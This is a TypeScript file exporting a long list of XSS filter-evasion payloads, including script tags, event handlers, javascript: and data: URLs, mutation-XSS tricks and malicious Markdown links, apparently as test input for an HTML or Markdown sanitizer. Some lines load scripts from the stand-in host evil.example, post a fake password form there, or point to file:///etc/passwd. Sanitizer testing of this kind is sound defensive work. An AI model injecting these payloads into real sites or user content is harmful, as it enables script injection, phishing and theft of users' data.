/**
 * Texts that have got script past filters, a line each: of the kinds that OWASP's "XSS Filter Evasion Cheat Sheet", the
 * HTML5 Security Cheatsheet, the tests of DOMPurify and reports about Markdown renderers describe.
 */
export const PAYLOADS: string[] = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>
<ScRiPt>alert(1)</sCrIpT>
<script/src=data:,alert(1)></script>
<script\x20type="text/javascript">alert(1)</script>
<script >alert(1)</script >
<script
<script x>alert(1)</script 1=2
<<script>alert(1);//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>/*</script><svg onload=alert(1)>*/</script>
<script>a=/XSS/;alert(a.source)</script>
<script src=//evil.example/.j>
<script src="https://evil.example/x.jpg"></script>
<script/xss src="https://evil.example/x.js"></script>
<script a=">" src="https://evil.example/x.js"></script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
\";alert(1);//
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;
＜script＞alert(1)＜/script＞
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"//
<img src=javascript:alert(1)>
<img src="javascript:alert('XSS');">
<IMG SRC=JaVaScRiPt:alert('XSS')>
<img src=\`javascript:alert("x")\`>
<img """><script>alert("x")</script>"\>
<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<img src=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>
<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61alert(1)>
<img src="jav&#x09;ascript:alert(1);">
<img src="jav&#x0A;ascript:alert(1);">
<img src="jav&#x0D;ascript:alert(1);">
<img src=" &#14; javascript:alert(1);">
<img/src/onerror=alert(1)>
<img/x/onerror=alert(1) src=x>
<img src=x:x onerror=alert(1)
<img src onerror /" '"= alt=alert(1)//">
<img dynsrc="javascript:alert(1)">
<img lowsrc="javascript:alert(1)">
<img src=1 href=1 onerror="javascript:alert(1)"></img>
<img srcset="x" onerror=alert(1)>
<img src="livescript:[code]">
<img src='vbscript:msgbox("x")'>
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img src="https://evil.example/pixel.gif">
<img style="xss:expr/*x*/ession(alert(1))">
<image src=x onerror=alert(1)>
<image href="x" onerror=alert(1)>
<picture><source srcset="x"><img onerror=alert(1)></picture>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script>alert&#40;1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>
<svg><animate attributeName=href values=javascript:alert(1) /></svg>
<svg><set attributeName=onmouseover to=alert(1)></svg>
<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>
<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><desc><table><svg><img src=x onerror=alert(1)></svg></table></desc></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><title><style><img title="</style><img src=x onerror=alert(1)>"></svg>
<math><a xlink:href="javascript:alert(1)">x</a></math>
<math href="javascript:alert(1)">x</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><style></noscript><img src=x onerror=alert(1)></style>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><p title="</noframes><svg/onload=alert(1)>"></noframes>
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><p title="</title><img src=x onerror=alert(1)>"></title>
<template><script>alert(1)</script></template>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">
<select><iframe></select><img src=x onerror=alert(1)>
<option><style></option></select><img src=x onerror=alert(1)></style>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt&colon;alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="javascript&#x3A;alert(1)">x</a>
<a href="  javascript:alert(1)">x</a>
<a href="\x0bjavascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:MsgBox(1)">x</a>
<a href="//evil.example">x</a>
<a href="\\evil.example">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="blob:https://evil.example/x">x</a>
<a href="file:///etc/passwd">x</a>
<a href="intent://x#Intent;end">x</a>
<a href="javascript://%0aalert(1)">x</a>
<a href="javascript://https://a.example/%0aalert(1)">x</a>
<a onmouseover="alert(1)">x</a>
<a onmouseover=alert(1)>x</a>
<a href=https://a.example ping=https://evil.example>x</a>
<a href="https://a.example" target="_blank" rel="opener">x</a>
<a style="position:fixed;top:0;left:0;width:100%;height:100%" href="https://evil.example">x</a>
<a id=x><a id=x name=y href="https://a.example">clobber</a>
<img name=getElementById>
<form id=x><input name=attributes>
<form action="javascript:alert(1)"><input type=submit></form>
<form action=https://evil.example><input name=password type=password><button>Sign in</button></form>
<button formaction="javascript:alert(1)">x</button>
<input onfocus=alert(1) autofocus>
<input type="image" src="javascript:alert(1);">
<input type=image src=x onerror=alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<keygen onfocus=alert(1) autofocus>
<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>y</p>
<details open ontoggle=alert(1)>
<dialog open oncancel=alert(1)>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<body onscroll=alert(1)><br><br><input autofocus>
<html onmouseover=alert(1)>
<head><base href="javascript://"></head><a href="/. /,alert(1)//#">x</a>
<base href="https://evil.example/">
<bgsound src="javascript:alert(1);">
<link rel="stylesheet" href="javascript:alert(1);">
<link rel=import href=https://evil.example/x.html>
<link rel=prefetch href=//evil.example>
<meta http-equiv="refresh" content="0;url=javascript:alert(1);">
<meta http-equiv="refresh" content="0; url=https://evil.example">
<meta http-equiv="Set-Cookie" content="x=<script>alert(1)</script>">
<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg
<iframe src="javascript:alert(1);"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=# onmouseover="alert(document.cookie)"></iframe>
<iframe/onload=alert(1)>
<frameset><frame src="javascript:alert(1);"></frameset>
<frameset onload=alert(1)>
<object data="javascript:alert(1)"></object>
<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></embed>
<applet code="javascript:alert(1)"></applet>
<param name="url" value="javascript:alert(1)">
<video src=x onerror=alert(1)></video>
<video><source onerror="alert(1)"></video>
<video poster=javascript:alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<audio controls onloadstart=alert(1) src=x>
<track src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>
<table background="javascript:alert(1)"><td background="javascript:alert(1)">
<div style="background-image: url(javascript:alert(1))">
<div style="width: expression(alert(1));">
<div style="behavior:url(x.htc)">
<div style="-moz-binding:url(https://evil.example/x.xml#x)">
<div onclick=alert(1)>x</div>
<div contenteditable onblur=alert(1)>x</div>
<p style="animation-name:x" onanimationstart=alert(1)>x</p>
<xss onpointerenter=alert(1)>x</xss>
<xss style="xss:expression(alert(1))">
<x onclick=alert(1) id=x tabindex=1 onfocus=alert(1)>#x</x>
<style>@import'https://evil.example/x.css';</style>
<style>li {list-style-image: url("javascript:alert(1)");}</style><ul><li>x</li></ul>
<style type="text/javascript">alert(1);</style>
<style><!--</style><script>alert(1)</script>--></style>
<style></style/foo><img src=x onerror=alert(1)></style>
<layer src="https://evil.example/x.html"></layer>
<br size="&{alert(1)}">
<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<?import namespace="t" implementation="#default#time2">
<!--[if gte IE 4]><script>alert(1);</script><![endif]-->
<!-- --!><img src=x onerror=alert(1)> -->
<!--><img src=x onerror=alert(1)>-->
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<img src=x onerror=alert(1)>]]>
<![><img src=x onerror=alert(1)>
<!DOCTYPE x [<!ENTITY x "<script>alert(1)</script>">]><p>&x;</p>
<% <img src=x onerror=alert(1)> %>
</ <img src=x onerror=alert(1)>
</p title="><img src=x onerror=alert(1)>
<p/onmouseover=alert(1)>x
<p onmouseover&#61;alert(1)>x
<b a=<img src=x onerror=alert(1)>>x</b>
<b "<script>alert(1)</script>">x</b>
<a href='x' title='<img src=x onerror=alert(1)>'>x</a>
{{constructor.constructor('alert(1)')()}}
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&#58;alert(1))
[x](javascript&colon;alert(1))
[x](&#x6A;avascript:alert(1))
[x](java&#10;script:alert(1))
[x](java&Tab;script:alert(1))
[x](&#1;javascript:alert(1))
[x](javascript:alert&lpar;1&rpar;)
[x](<javascript:alert(1)>)
[x](< javascript:alert(1)>)
[x](javascript://www.a.example%0Aalert(1))
[x](vbscript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E)
[x](data:image/png;base64,AAAA)
[x](file:///etc/passwd)
[x](//evil.example)
[x](\\\\evil.example)
[x](/\\evil.example)
[x](https://a.example "onmouseover=alert(1)")
[x](https://a.example '" onmouseover="alert(1)')
[x](https://a.example" onmouseover="alert(1))
[x](<https://a.example" onmouseover="alert(1)>)
[x](https://a.example/?"onmouseover=alert(1)//)
[<img src=x onerror=alert(1)>](https://a.example)
[x]( https://a.example '"><img src=x onerror=alert(1)>')
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2Zz4=)
![x](https://evil.example/pixel.gif)
![x" onerror="alert(1)](x)
![x" onerror="alert(1)](/files/0197e0b0-1111-7abc-8def-0123456789ab)
![x](/files/0197e0b0-1111-7abc-8def-0123456789ab "\" onerror=\"alert(1)")
![x](/files/../admin)
![x](/files/0197e0b0-1111-7abc-8def-0123456789ab/../../x)
![<svg onload=alert(1)>](/files/0197e0b0-1111-7abc-8def-0123456789ab)
![![x](https://a.example" onerror=alert(1))](x" onerror=alert(1))
<javascript:alert(1)>
<JAVASCRIPT:alert(1)>
<javascript:alert(1)//@a.example>
<data:text/html,alert(1)>
<vbscript:x>
<mailto:x@a.example?subject="onclick=alert(1)>
<https://a.example/"onclick=alert(1)//>
javascript:alert(1)
javascript://a.example/%0aalert(1)
data:text/html,<script>alert(1)</script>
https://a.example/"><script>alert(1)</script>
https://a.example/'onclick='alert(1)
http://a.example/<svg/onload=alert(1)>
x@a.example"onclick="alert(1)
www.a.example"><img src=x onerror=alert(1)>
\<script>alert(1)\</script>
**<script>alert(1)</script>**
> <img src=x onerror=alert(1)>
- <iframe src=javascript:alert(1)>
# <svg onload=alert(1)>
||<script>alert(1)</script>||
~~<img src=x onerror=alert(1)>~~
    <script>alert(1)</script>
`
  .split("\n")
  .filter(Boolean)
  .concat(
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]\n\n[x]: <javascript:alert(1)> 'x'",
    "[x]\n\n[x]: https://a.example '\"><img src=x onerror=alert(1)>'",
    "![x]\n\n[x]: data:image/svg+xml,<svg/onload=alert(1)>",
    '```"><script>alert(1)</script>\ncode\n```',
    '```js" onmouseover="alert(1)\ncode\n```',
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| <img src=x onerror=alert(1)> |\n|-|\n| `<script>alert(1)</script>` |",
    '|a|\n|:-"onclick=alert(1)|\n|b|',
    '<a href="java\0script:alert(1)">x</a>',
    "[x](java\0script:alert(1))",
    "[x](java\u00adscript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "<img\u0000src=x onerror=alert(1)>",
    "<img\u000csrc=x\u000conerror=alert(1)>",
    "<script>\u2028alert(1)</script>",
    "<div>\n<script>\nalert(1)\n</script>\n\n</div>",
    "<style>\n\n* { background: url(javascript:alert(1)) }\n\n</style>",
    "<!--\n\n-->\n<img src=x onerror=alert(1)>",
    "1000000000000. <script>alert(1)</script>",
  );
